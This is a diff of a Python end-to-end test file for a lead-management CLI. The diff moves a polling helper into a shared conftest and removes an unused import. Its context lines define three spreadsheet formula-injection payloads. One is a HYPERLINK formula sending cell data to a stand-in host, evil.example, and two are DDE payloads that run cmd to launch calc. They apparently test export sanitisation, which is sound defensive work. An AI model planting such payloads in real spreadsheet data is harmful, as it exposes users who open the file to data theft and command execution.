@@ -10,7 +10,6 @@ import time
 import uuid
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
-from typing import Any
 
 import httpx
 import pytest
@@ -18,21 +17,11 @@ import pytest
 from leadpipe_local import cli
 from leadpipe_local.client import ApiClient, ApiError
 from leadpipe_local.runtime import LocalRuntime
+from tests.e2e.conftest import wait_until
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 HOSTILE_COMPANY = "+cmd|' /C calc'!A0"
 HOSTILE_SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"
-
-
-def wait_until(fetch: Any, predicate: Any, timeout: float = 60, what: str = "condition") -> Any:
-    deadline = time.monotonic() + timeout
-    while True:
-        value = fetch()
-        if predicate(value):
-            return value
-        if time.monotonic() > deadline:
-            raise AssertionError(f"timed out waiting for {what}; last value: {value!r:.500}")
-        time.sleep(0.2)
 
 
 def rows_of(data: bytes) -> list[dict[str, str]]:
